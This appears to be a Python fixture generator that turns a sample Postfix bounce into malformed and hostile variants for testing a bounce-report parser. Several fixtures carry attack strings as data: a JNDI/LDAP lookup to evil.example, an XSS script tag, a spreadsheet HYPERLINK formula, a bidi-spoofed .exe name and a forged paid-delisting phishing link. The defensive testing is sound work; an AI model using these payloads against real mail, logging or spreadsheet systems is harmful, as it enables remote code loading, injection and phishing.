"""Make broken and hostile mails of good ones: cut, mislabelled, oversized, forged."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from typing import Any

import yaml

from notices import CORPUS, DATE, save

Change = Callable[[bytes], bytes]
BASE = "postfix/spamhaus-zen"
LURE = b"https://delist.evil.example/pay?ip=192.0.2.7"


def swap(old: bytes, new: bytes) -> Change:
    """Put one text in place of another."""
    return lambda mail: mail.replace(old, new)


def before(mark: bytes, extra: bytes = b"") -> Change:
    """Cut the mail off at a mark, and add something."""
    return lambda mail: mail[: mail.index(mark)] + extra


def in_original(extra: bytes) -> Change:
    """Put text into the returned message's body, where it must not count."""
    return lambda mail: mail.replace(b"quotation below.\n", b"quotation below.\n" + extra).replace(
        "附上报价单,请查收。\n".encode(), "附上报价单,请查收。\n".encode() + extra
    )


def quoted_subject(text: bytes) -> Change:
    """Give the returned message another subject."""
    return lambda mail: re.sub(rb"(?m)^(To: info@\S+\nSubject: ).*$", lambda m: m[1] + text, mail, count=1)


def with_header(line: bytes) -> Change:
    """Put a header field on top."""
    return lambda mail: line + b"\n" + mail


def nested(depth: int) -> Change:
    """Wrap the mail in many multiparts."""

    def wrap(mail: bytes) -> bytes:
        top = f"From: x@example.com\nDate: {DATE}\nMIME-Version: 1.0\n".encode()
        opening = b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)
        )
        return top + opening + b"Content-Type: message/rfc822\n\n" + mail

    return wrap


# Changes after which a careful reader still reads the same from the mail.
SAME: dict[str, tuple[str, Change]] = {
    "diagnostic-lure": (
        "a link of the forger's in what the receiver is said to have answered",
        swap(b"https://www.spamhaus.org/query/ip/192.0.2.7", LURE),
    ),
    "from-lure": (
        "a From that imitates a list operator",
        swap(b"From: Mail Delivery System", b'From: "Spamhaus, pay at evil.example"'),
    ),
    "crlf-and-lf": ("line ends of both kinds", lambda m: m.replace(b"\n", b"\r\n", 20)),
    "no-final-boundary": ("the last boundary is missing", lambda m: m.rstrip()[:-60]),
    "subject-lies": (
        "the Subject names another cause",
        swap(b"Subject: Undelivered Mail Returned to Sender", b"Subject: User unknown mailbox full DNS"),
    ),
    "quoted-subject": (
        "the returned Subject names another cause",
        quoted_subject(b"550 5.1.1 User unknown; 552 mailbox full"),
    ),
    "quoted-lure": ("the returned Subject holds a link", quoted_subject(LURE)),
    "original-body": (
        "the returned body holds other errors",
        in_original(b"550 5.1.1 User unknown\n552 5.2.2 Mailbox full\nDNS query has failed\n"),
    ),
    "original-fake-part": (
        "the returned body imitates a delivery report",
        in_original(
            b"Final-Recipient: rfc822; victim@other.example\nAction: failed\nStatus: 5.1.1\n"
            b"Diagnostic-Code: smtp; 550 5.1.1 User unknown\n"
        ),
    ),
    "original-boundary": (
        "the returned body holds a foreign boundary",
        in_original(b"--=_other_boundary\nContent-Type: message/delivery-status\n\nAction: failed\n"),
    ),
    "nul-bytes": ("NUL bytes in the returned body", in_original(b"\0\0\0\0 zero \0\n")),
    "huge-line": ("a line of 20,000 characters in the returned body", in_original(b"A" * 20_000 + b"\n")),
    "many-lines": ("20,000 empty lines in the returned body", in_original(b"\n" * 20_000)),
    "long-header": ("a header field of 20,000 characters", with_header(b"X-Long: " + b"x" * 20_000)),
    "many-headers": (
        "1,000 header fields",
        with_header(b"\n".join(b"X-Field-%d: x" % n for n in range(1000))),
    ),
    "bad-charset-name": (
        "a character set that does not exist",
        swap(b"text/plain; charset=utf-8", b"text/plain; charset=x-klingon-9"),
    ),
    "bad-encoded-word": (
        "broken encoded words in a header field",
        with_header(b"X-Note: =?utf-8?B?////?= =?utf-8?Q?=GG?= =?x?z?y?="),
    ),
    "bad-date": ("a date that cannot be", swap(b"Date: Mon, 02", b"Date: Foo, 92")),
    "two-subjects": ("a second Subject", with_header(b"Subject: Out of office")),
    "folded-forever": (
        "a header field folded 3,000 times",
        with_header(b"X-Fold: a\n" + b" a\n" * 3000 + b" end"),
    ),
    "control-chars": (
        "control characters in the returned Subject",
        quoted_subject(b"\x1b[31mred\x07\x08\x7f"),
    ),
    "bidi": ("right-to-left marks in the returned Subject", quoted_subject("\u202egpj.exe\u202c".encode())),
    "html-original": (
        "markup in the returned Subject",
        quoted_subject(b"<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ),
    "template-words": (
        "template words in the returned Subject",
        quoted_subject(b"{{7*7}} ${jndi:ldap://evil.example/a} %s%n {0}"),
    ),
    "csv-formula": (
        "a formula in the returned Subject",
        quoted_subject(b'=HYPERLINK("http://evil.example","x")'),
    ),
    "no-mime-version": ("no MIME-Version", swap(b"MIME-Version: 1.0\n", b"")),
    "upper-case": ("field names in capitals", swap(b"Content-Type: multipart", b"CONTENT-TYPE: multipart")),
}
# Changes after which only "no error, no long wait" is asked.
ANY: dict[str, tuple[str, Change]] = {
    "empty": ("no bytes at all", lambda _: b""),
    "one-newline": ("one line end", lambda _: b"\n"),
    "cut-in-header": ("cut off within the header", before(b"Auto-Submitted")),
    "cut-in-notice": ("cut off within the notice", before(b"blocked using")),
    "cut-before-status": ("cut off before the delivery report", before(b"Reporting-MTA")),
    "cut-in-status": ("cut off within the delivery report", before(b"Diagnostic-Code")),
    "cut-in-utf8": ("cut off within a character", before(b"Auto-Submitted", b"X: \xe6\x97")),
    "wrong-boundary": ("the boundary of the header does not occur", swap(b'boundary="', b'boundary="not-')),
    "empty-boundary": ("an empty boundary", lambda m: re.sub(rb'boundary="[^"]*"', b'boundary=""', m)),
    "lone-cr": ("lone CR as line end", swap(b"\n", b"\r")),
    "utf16": ("the whole mail in UTF-16", lambda m: m.decode("utf-8", "replace").encode("utf-16")),
    "base64-garbage": (
        "base64 that is none",
        swap(
            b"Content-Type: message/delivery-status\n",
            b"Content-Type: message/delivery-status\nContent-Transfer-Encoding: base64\n",
        ),
    ),
    "nested-60": ("60 multiparts in one another", nested(60)),
    "nested-1000": ("1,000 multiparts in one another", nested(1000)),
    "random": ("bytes without sense", lambda m: base64.b64encode(m[:600])[::-1] * 3),
    "all-bytes": ("every byte value", lambda _: bytes(range(256)) * 20),
    "status-loop": (
        "500 recipients in the report",
        lambda m: m.replace(
            b"Final-Recipient:",
            b"Action: failed\n\nFinal-Recipient: rfc822; x@x.example\n" * 500 + b"Final-Recipient:",
        ),
    ),
    "digits": ("10,000 digits where a reply is", swap(b"554 5.7.1 Service", b"5" * 10_000)),
    "dashes": ("20,000 dashes", lambda m: m + b"-" * 20_000),
    "quotes": (
        "unclosed quotes in Content-Type",
        lambda m: re.sub(rb'boundary="', b'boundary="""" ; x="', m),
    ),
}


# Found by fuzzing (fuzz/run.py): what each of them once made slow, in a size that would still be.
HEAD = b"From: MAILER-DAEMON@example.net\nSubject: Undelivered Mail Returned to Sender\n"
FOUND: dict[str, tuple[str, bytes]] = {
    "hosts-in-one-line": (
        "a line in which 1,000 hosts said something",
        HEAD
        + b"\nThis is the mail system at host mx.example.net.\n\n"
        + b"<b@example.org>: host mx.example.org[192.0.2.9] said: 554 5.7.1 no" * 1_000,
    ),
    "shared-words": (
        "250 recipients, and 6 kB of words that all of them share",
        HEAD
        + b"\nThis is the mail system at host mx.example.net.\n\n"
        + b"".join(b"<u%d@example.org>:\n" % n for n in range(250))
        + b"    550 5.1.1 no such user, blocked by dnsbl\n" * 140,
    ),
    "many-reasons": (
        "1,000 recipients, each followed by a reason",
        HEAD
        + b"MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
        + "您的郵件無法投遞\n\n".encode()
        + b"".join(
            f"收件人：u{n}@receiver.example\n退信原因：552 5.2.2 信箱已滿\n".encode() for n in range(1_000)
        ),
    ),
}


def variants() -> int:
    """Write every change of the base mail; return how many."""
    mail = (CORPUS / f"{BASE}.eml").read_bytes()
    base: dict[str, Any] = yaml.safe_load((CORPUS / f"{BASE}.yaml").read_text(encoding="utf-8"))
    for name, (shows, change) in SAME.items():
        truth = base | {"origin": f"made of {BASE}", "shows": f"A bounce with {shows}."}
        changed = change(mail)
        if changed == mail:
            raise ValueError(f"{name} changes nothing")
        if b"evil.example" in changed:
            truth["never"] = "evil.example"  # no link of the report may hold this
        save(CORPUS / "hostile" / name, changed, truth)
    for name, (shows, change) in ANY.items():
        truth = {"origin": f"made of {BASE}", "shows": f"A broken bounce: {shows}."}
        save(CORPUS / "hostile" / name, change(mail), truth)
    for name, (shows, found) in FOUND.items():
        truth = {"origin": "found by fuzzing", "shows": f"A broken bounce: {shows}.", "kind": "bounce"}
        save(CORPUS / "hostile" / name, found, truth)
    return len(SAME) + len(ANY) + len(FOUND)


if __name__ == "__main__":
    print(variants())
